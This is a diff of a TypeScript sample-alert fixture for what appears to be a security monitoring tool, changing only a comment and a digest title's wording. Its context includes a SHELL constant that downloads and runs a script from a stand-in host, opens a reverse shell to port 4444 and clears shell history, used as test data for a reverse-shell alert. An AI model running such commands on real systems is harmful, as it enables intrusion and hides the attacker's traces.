@@ -49,7 +49,7 @@ const SHELL =
   'set -e\ncurl -fsS http://203.0.113.66/a.sh -o /tmp/a.sh\nbash /tmp/a.sh\n\tbash -i >& ' +
   '/dev/tcp/203.0.113.66/4444 0>&1\nhistory -c'
 
-/** One alert of every sort that looks different, by a name that tells what is special about it. */
+/** One alert of every sort that looks different, by a name that says what is special about it. */
 export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
   'reverse shell on many machines': alertOf({
     id: id(1),
@@ -375,7 +375,7 @@ export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
     time: '2026-01-15T11:00:00.000Z',
     kind: 'digest',
     title:
-      '14 alerts held back within the hour: First Seen Caller by role/Deploy; Broad Target Selector by user/mallory',
+      '14 alerts rate-limited within the hour: First Seen Caller by role/Deploy; Broad Target Selector by user/mallory',
     repeats: 14,
     activities: Array.from({ length: 14 }, (_, place) => `00000000-0000-0000-0000-0000000000${place + 20}`),
     silence: null,
